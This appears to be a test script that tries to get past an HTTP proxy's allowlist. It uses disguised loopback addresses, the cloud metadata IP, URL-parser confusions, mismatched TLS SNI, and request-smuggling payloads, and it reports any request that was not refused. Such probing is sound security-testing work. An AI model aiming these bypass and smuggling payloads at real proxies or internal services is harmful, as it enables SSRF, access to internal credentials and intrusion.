"""Talks the proxy into what was not permitted: by names that lead inwards, addresses in disguise, another host beside the
permitted one, TLS that greets somebody else, a second request behind the first. Prints what answered as if it worked."""

import os
import socket
import ssl
import sys
from urllib.parse import urlsplit

PROXY = urlsplit(os.environ["HTTP_PROXY"])
OPEN, SECRET = sys.argv[1:]
ALLOWED = f"api.example.com:{OPEN}"
INWARD = [
    *(f"{host}:{SECRET}" for host in ("127.0.0.1", "[::1]", "localhost", "2130706433", "0x7f.1", "0", "127.1")),
    *(f"{host}:{SECRET}" for host in ("inside.example.com", "INSIDE.example.com.", "mixed.example.com", "api.example.com")),
    *("169.254.169.254", "metadata.example.com", f"{ALLOWED}@127.0.0.1:{SECRET}", f"127.0.0.1:{SECRET}#@{ALLOWED}"),
    *(f"api.example.com:{OPEN}\\@127.0.0.1:{SECRET}", f"api.example.com%00.evil:{SECRET}", f"[::ffff:127.0.0.1]:{SECRET}"),
]


def greeting(name):
    """What TLS says first to a server of that name."""
    said = ssl.MemoryBIO()
    tls = ssl.create_default_context().wrap_bio(ssl.MemoryBIO(), said, server_hostname=name)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        return said.read()


def ask(head, *more):
    """The answer to a request, and to what is sent behind it."""
    with socket.create_connection((PROXY.hostname, PROXY.port), 5) as sock:
        sock.settimeout(2)
        got = b""
        try:
            sock.sendall(head.replace("\n", "\r\n").encode())
            for piece in more:
                got += sock.recv(65536)
                sock.sendall(piece)
            while data := sock.recv(65536):
                got += data
        except OSError:
            pass
        return got


for place in INWARD:
    for head in (f"CONNECT {place} HTTP/1.1\nHost: {ALLOWED}\n\n", f"GET http://{place}/ HTTP/1.1\nHost: {ALLOWED}\n\n"):
        answer = ask(head)
        if answer and b" 403 " not in answer and b" 400 " not in answer:
            print(repr(head), answer[:100])
tunnel = f"CONNECT {ALLOWED} HTTP/1.1\nHost: {ALLOWED}\n\n"
for name in ("inside.example.com", "127.0.0.1", "api.example.com.evil.example"):
    ask(tunnel, greeting(name))
ask(tunnel, b"GET /smuggled HTTP/1.1\r\nHost: api.example.com\r\n\r\n")
ask(f"GET http://{ALLOWED}/ HTTP/1.1\nHost: 127.0.0.1:{SECRET}\n\nGET http://127.0.0.1:{SECRET}/smuggled HTTP/1.1\nHost: x\n\n")
ask(f"GET http://{ALLOWED}/ HTTP/1.1\nHost: a\nContent-Length: 4\nTransfer-Encoding: chunked\n\n0\n\nGET /smuggled HTTP/1.1\nHost: a\n\n")
print("done")
